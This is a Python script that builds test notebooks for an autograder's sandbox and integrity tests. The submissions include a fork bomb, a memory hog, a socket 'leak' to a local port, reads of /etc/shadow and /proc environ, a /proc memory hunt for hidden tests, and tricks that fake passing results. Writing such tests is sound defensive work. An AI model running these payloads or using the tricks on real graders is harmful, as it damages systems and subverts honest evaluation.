"""Regenerate the golden notebooks of the grader tests: `python tests/assessments/notebooks/make_golden.py`.

One small source notebook (three graded tasks, hidden tests, a locked setup cell, a markdown answer)
and one submission per edge case. The files are committed; this script documents how they were made.
Placeholders ``{PORT}`` and ``{REPO}`` are filled in by the tests.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

HERE = Path(__file__).parent


def meta(gid: str, *, grade=False, solution=False, locked=False, points=None) -> dict:
    nbg = {
        "grade": grade,
        "grade_id": gid,
        "locked": locked,
        "schema_version": 3,
        "solution": solution,
    }
    if points is not None:
        nbg["points"] = points
    return {"nbgrader": nbg}


MEAN = "def mean(xs):\n    ### BEGIN SOLUTION\n    return sum(xs) / len(xs)\n    ### END SOLUTION"
WORDS = (
    "def word_count(text):\n"
    "    ### BEGIN SOLUTION\n"
    "    counts = {}\n"
    "    for word in text.lower().split():\n"
    "        counts[word] = counts.get(word, 0) + 1\n"
    "    return counts\n"
    "    ### END SOLUTION"
)
DIV = "def safe_div(a, b):\n    ### BEGIN SOLUTION\n    return None if b == 0 else a / b\n    ### END SOLUTION"
HIDDEN_SECRET = "assert mean([7, 8, 9, 10, 11]) == 9, 'hidden-mean-check'"


def source() -> nbformat.NotebookNode:
    nb = new_notebook(
        metadata={
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
            "language_info": {"name": "python"},
        }
    )
    nb.cells = [
        new_markdown_cell(
            "# 골든 노트북 / Golden notebook\n\n세 가지 작은 과제 / Three small tasks."
        ),
        new_code_cell("import math", metadata=meta("setup", locked=True)),
        new_code_cell(MEAN, metadata=meta("mean", solution=True)),
        new_code_cell(
            "assert mean([1, 2, 3]) == 2, 'mean([1, 2, 3]) should be 2'\n"
            "### BEGIN HIDDEN TESTS\n"
            f"{HIDDEN_SECRET}\n"
            "assert math.isclose(mean([0.1, 0.2]), 0.15)\n"
            "### END HIDDEN TESTS",
            metadata={
                **meta("test_mean", grade=True, locked=True, points=2),
                "dasi": {
                    "hidden_message": "빈 목록이 아닌 여러 경우를 확인하세요 / Check more cases."
                },
            },
        ),
        new_code_cell(WORDS, metadata=meta("word_count", solution=True)),
        new_code_cell(
            "assert word_count('a b a') == {'a': 2, 'b': 1}\n"
            "### BEGIN HIDDEN TESTS\n"
            "assert word_count('Data data') == {'data': 2}, 'case-insensitive'\n"
            "### END HIDDEN TESTS",
            metadata=meta("test_word_count", grade=True, locked=True, points=3),
        ),
        new_markdown_cell("왜 그런가요? / Why?", metadata=meta("why", solution=True)),
        new_code_cell(DIV, metadata=meta("safe_div", solution=True)),
        new_code_cell(
            "assert safe_div(6, 3) == 2\nassert safe_div(1, 0) is None",
            metadata=meta("test_safe_div", grade=True, locked=True, points=1),
        ),
    ]
    return nb


def with_answer(nb, gid: str, code: str):
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == gid:
            cell.source = code
    return nb


def write(name: str, nb) -> None:
    (HERE / name).write_text(nbformat.writes(nb) + "\n", encoding="utf-8")


def main() -> None:
    from assessments.grader.learner import learner_version

    src = source()
    write("source.ipynb", src)
    learner = learner_version(src)
    solved = copy.deepcopy(learner)
    for cell, src_cell in zip(solved.cells, src.cells, strict=True):
        if cell.metadata.get("nbgrader", {}).get("solution") and cell.cell_type == "code":
            cell.source = src_cell.source.replace("    ### BEGIN SOLUTION\n", "").replace(
                "\n    ### END SOLUTION", ""
            )
    write("correct.ipynb", solved)
    write("empty.ipynb", learner)
    write(
        "partly_correct.ipynb",
        with_answer(
            solved, "word_count", "def word_count(text):\n    return {w: 1 for w in text.split()}"
        ),
    )
    write(
        "syntax_error.ipynb",
        with_answer(solved, "mean", "def mean(xs)\n    return sum(xs) / len(xs)"),
    )
    write(
        "infinite_loop.ipynb",
        with_answer(
            solved, "mean", "while True:\n    pass\n\ndef mean(xs):\n    return sum(xs) / len(xs)"
        ),
    )
    write(
        "unstoppable_loop.ipynb",
        with_answer(
            solved,
            "mean",
            "import time\nwhile True:\n    try:\n        time.sleep(0.05)\n    except BaseException:\n        pass",
        ),
    )
    write(
        "memory_hog.ipynb",
        with_answer(
            solved, "mean", "hog = []\nwhile True:\n    hog.append(bytearray(50 * 1024 * 1024))"
        ),
    )
    write(
        "fork_bomb.ipynb",
        with_answer(
            solved,
            "mean",
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        ),
    )
    write(
        "huge_output.ipynb",
        with_answer(
            solved,
            "mean",
            "for _ in range(300):\n    print('x' * 100_000)\n\ndef mean(xs):\n    return sum(xs) / len(xs)",
        ),
    )
    write(
        "network_attempt.ipynb",
        with_answer(
            solved,
            "mean",
            "import socket\n"
            "print('interfaces', [name for _, name in socket.if_nameindex()])\n"
            "try:\n"
            "    socket.create_connection(('127.0.0.1', {PORT}), timeout=3).sendall(b'leak')\n"
            "    print('network: connected')\n"
            "except OSError as exc:\n"
            "    print('network blocked:', type(exc).__name__)\n"
            "try:\n"
            "    socket.getaddrinfo('pypi.org', 443)\n"
            "    print('dns: resolved')\n"
            "except OSError as exc:\n"
            "    print('dns blocked:', type(exc).__name__)\n"
            "def mean(xs):\n    return sum(xs) / len(xs)",
        ),
    )
    write(
        "read_outside.ipynb",
        with_answer(
            solved,
            "mean",
            "import os\n"
            "found = {}\n"
            "for path in ['/etc/passwd', '/etc/shadow', '/root/.bashrc', '{REPO}/lms/settings/base.py',\n"
            "             '{REPO}/pyproject.toml', '/proc/1/environ', '/home']:\n"
            "    try:\n"
            "        with open(path, errors='replace') as fh:\n"
            "            found[path] = fh.read(4000)\n"
            "    except OSError as exc:\n"
            "        found[path] = 'DENIED ' + type(exc).__name__\n"
            "print('LISTING', sorted(os.listdir('/')))\n"
            "for path, text in found.items():\n"
            "    print('READ', path, repr(text[:400]))\n"
            "def mean(xs):\n    return sum(xs) / len(xs)",
        ),
    )
    hunt = (
        "import os, re\n"
        "loot = []\n"
        "for root in ['/exercise', '/tmp', '/etc', '/opt', '/dev/shm']:\n"
        "    for folder, _dirs, files in os.walk(root):\n"
        "        for name in files:\n"
        "            try:\n"
        "                with open(os.path.join(folder, name), 'rb') as fh:\n"
        "                    blob = fh.read(2_000_000)\n"
        "            except OSError:\n"
        "                continue\n"
        "            if b'hidden-mean-check' in blob or b'HIDDEN TESTS' in blob:\n"
        "                loot.append(os.path.join(folder, name))\n"
        "for pid in os.listdir('/proc'):\n"
        "    if not pid.isdigit() or int(pid) == os.getpid():\n"
        "        continue\n"
        "    for part in ['cmdline', 'environ', 'mem', 'fd/0', 'fd/1']:\n"
        "        try:\n"
        "            with open(f'/proc/{pid}/{part}', 'rb') as fh:\n"
        "                blob = fh.read(1_000_000)\n"
        "        except OSError:\n"
        "            continue\n"
        "        if b'hidden-mean-check' in blob:\n"
        "            loot.append(f'/proc/{pid}/{part}')\n"
        "    try:\n"
        "        maps = open(f'/proc/{pid}/maps').read().splitlines()\n"
        "        mem = open(f'/proc/{pid}/mem', 'rb')\n"
        "        for line in maps:\n"
        "            start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "            try:\n"
        "                mem.seek(start)\n"
        "                if b'hidden-mean-check' in mem.read(min(end - start, 50_000_000)):\n"
        "                    loot.append(f'/proc/{pid}/mem')\n"
        "            except (OSError, ValueError, OverflowError):\n"
        "                pass\n"
        "    except OSError:\n"
        "        pass\n"
        "def mean(xs):\n"
        "    if loot:\n"
        "        raise AssertionError('LOOT ' + repr(loot))\n"
        "    raise AssertionError('NOTHING FOUND')\n"
    )
    write("hidden_hunt.ipynb", with_answer(solved, "mean", hunt))
    write(
        "memory_replay.ipynb",
        with_answer(
            solved,
            "safe_div",
            "import linecache\n"
            "seen = [text for text in list(globals().get('_ih', [])) if 'hidden-mean-check' in text]\n"
            "seen += [''.join(lines) for _k, (_s, _m, lines, _f) in list(linecache.cache.items())\n"
            "         if 'hidden-mean-check' in ''.join(lines)]\n"
            "def safe_div(a, b):\n"
            "    raise AssertionError('REPLAY ' + repr(seen)[:3000])\n",
        ),
    )
    # Test cells tampered with in the submission: they must not count.
    deleted = copy.deepcopy(solved)
    deleted.cells = [
        c for c in deleted.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test_mean"
    ]
    write("deleted_test_cell.ipynb", with_answer(deleted, "mean", "def mean(xs):\n    return 0"))
    edited = with_answer(solved, "test_mean", "pass")
    edited = with_answer(edited, "mean", "def mean(xs):\n    return 0")
    write("edited_test_cell.ipynb", edited)
    duplicated = with_answer(solved, "mean", "def mean(xs):\n    return 0")
    fake = copy.deepcopy(
        [c for c in duplicated.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "mean"][0]
    )
    fake.source = "def mean(xs):\n    return sum(xs) / len(xs)"
    fake.id = "dup-mean"
    duplicated.cells.append(fake)
    write("duplicated_grade_id.ipynb", duplicated)
    changed = with_answer(solved, "mean", "def mean(xs):\n    return 0")
    for cell in changed.cells:
        nbg = cell.metadata.get("nbgrader", {})
        if nbg.get("grade_id") == "test_mean":
            nbg.update(points=100, grade=False, solution=True)
        if nbg.get("grade_id") == "test_word_count":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    changed.cells.append(
        new_code_cell("assert True", metadata=meta("bonus", grade=True, locked=True, points=50))
    )
    write("changed_metadata.ipynb", changed)
    retyped = copy.deepcopy(solved)
    for cell in retyped.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "word_count":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    write("retyped_answer.ipynb", retyped)
    wrong_kernel = copy.deepcopy(solved)
    wrong_kernel.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    write("wrong_kernel.ipynb", wrong_kernel)
    src_kernel = copy.deepcopy(src)
    src_kernel.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    write("source_wrong_kernel.ipynb", src_kernel)
    # Fake passes.
    write(
        "print_passed.ipynb",
        with_answer(
            solved,
            "mean",
            "def mean(xs):\n    print('passed')\n    return 0\nprint('All tests passed.')",
        ),
    )
    write(
        "redefine_assert.ipynb",
        with_answer(
            solved,
            "mean",
            "import builtins, math\n"
            "class Quiet(Exception):\n    pass\n"
            "builtins.AssertionError = Quiet\n"
            "math.isclose = lambda *a, **k: True\n"
            "def assert_equal(*a, **k):\n    return None\n"
            "def mean(xs):\n"
            "    return 99 if xs == [0.1, 0.2] else sum(xs) / len(xs)",
        ),
    )
    write(
        "swallow_errors.ipynb",
        with_answer(
            solved,
            "mean",
            "ip = get_ipython()\n"
            "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
            "ip.input_transformers_post.append(lambda lines: ['pass\\n'])\n"
            "def mean(xs):\n    return 0",
        ),
    )
    write(
        "sys_exit.ipynb",
        with_answer(solved, "mean", "import sys\ndef mean(xs):\n    return 0\nsys.exit(0)"),
    )
    write("os_exit.ipynb", with_answer(solved, "mean", "import os\nos._exit(0)"))
    write(
        "fake_result.ipynb",
        with_answer(
            solved,
            "mean",
            "import os, json\n"
            "line = json.dumps({'e': 'cell', 'index': 3, 'status': 'ok', 'phase': 'visible'})\n"
            "for fd in (1, 2, 3, 4, 5):\n"
            "    try:\n"
            "        os.write(fd, ('0' * 64 + '\\t' + line + '\\n').encode())\n"
            "    except OSError:\n"
            "        pass\n"
            "def mean(xs):\n    return 0",
        ),
    )
    (HERE / "not_json.ipynb").write_bytes(b"this is not json {")
    (HERE / "not_utf8.ipynb").write_bytes(
        json.dumps(json.loads(nbformat.writes(solved))).encode("utf-8")[:-1] + b'"\xff\xfe"}'
    )
    (HERE / "not_a_notebook.ipynb").write_text('{"hello": "world"}\n')
    v3 = json.loads(nbformat.writes(solved))
    v3["nbformat"] = 3
    (HERE / "nbformat3.ipynb").write_text(json.dumps(v3))
    ungraded = copy.deepcopy(src)
    for cell in ungraded.cells:
        cell.metadata.pop("nbgrader", None)
    write("source_without_metadata.ipynb", ungraded)
    dup_src = copy.deepcopy(src)
    for cell in dup_src.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_word_count":
            cell.metadata["nbgrader"]["grade_id"] = "test_mean"
    write("source_duplicate_grade_id.ipynb", dup_src)
    neg = copy.deepcopy(src)
    for cell in neg.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_mean":
            cell.metadata["nbgrader"]["points"] = -1
    write("source_negative_points.ipynb", neg)
    no_tests = copy.deepcopy(src)
    for cell in no_tests.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_safe_div":
            cell.source = "# nothing to see"
    write("source_test_without_tests.ipynb", no_tests)
    broken = with_answer(
        src, "mean", "def mean(xs):\n    ### BEGIN SOLUTION\n    return 0\n    ### END SOLUTION"
    )
    write("source_fails_own_tests.ipynb", broken)


if __name__ == "__main__":
    main()
